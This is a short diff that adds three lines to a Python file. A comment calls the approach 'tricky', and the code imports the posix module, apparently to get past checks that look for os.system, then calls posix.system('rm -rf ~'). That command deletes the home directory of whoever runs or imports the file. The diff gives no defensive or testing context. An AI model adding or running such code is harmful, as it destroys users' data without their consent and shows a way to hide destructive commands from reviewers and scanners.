@@ -1,0 +1,3 @@
+# tricky: the module below os
+import posix
+posix.system("rm -rf ~")
